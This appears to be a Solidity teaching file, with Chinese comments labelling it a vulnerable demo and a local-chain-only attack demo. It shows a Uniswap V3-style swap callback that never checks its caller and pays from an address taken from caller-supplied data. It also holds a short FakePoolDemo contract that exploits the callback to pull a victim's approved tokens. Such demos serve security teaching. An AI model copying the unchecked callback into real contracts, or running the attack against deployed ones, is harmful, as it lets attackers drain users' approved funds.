// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IUniswapV3Pool as ISwapXV3Pool} from "@uniswap/v3-core/contracts/interfaces/IUniswapV3Pool.sol";
import {IERC20} from "../security/ToyLender.sol";

/// 有漏洞的演示，不要使用：回调不检查调用者，按 data 里的付款人付款。
contract UnsafeSwapper {
    function swap(
        ISwapXV3Pool pool,
        bool zeroForOne,
        uint256 amountIn,
        uint160 sqrtPriceLimitX96
    ) external {
        address token = zeroForOne ? pool.token0() : pool.token1();
        bytes memory data = abi.encode(token, msg.sender);
        pool.swap(msg.sender, zeroForOne, int256(amountIn), sqrtPriceLimitX96, data);
    }

    // #region unsafe
    function uniswapV3SwapCallback(int256 amount0, int256 amount1, bytes calldata data) external {
        (address token, address payer) = abi.decode(data, (address, address));
        uint256 owed = uint256(amount0 > 0 ? amount0 : amount1);
        require(IERC20(token).transferFrom(payer, msg.sender, owed));
    }
    // #endregion unsafe
}

// #region attack
/// 攻击演示，只在本地链使用：假装自己是池，直接向目标合约的回调“收款”。
contract FakePoolDemo {
    function attack(UnsafeSwapper target, address token, address victim, uint256 amount) external {
        target.uniswapV3SwapCallback(int256(amount), 0, abi.encode(token, victim));
    }
}
// #endregion attack
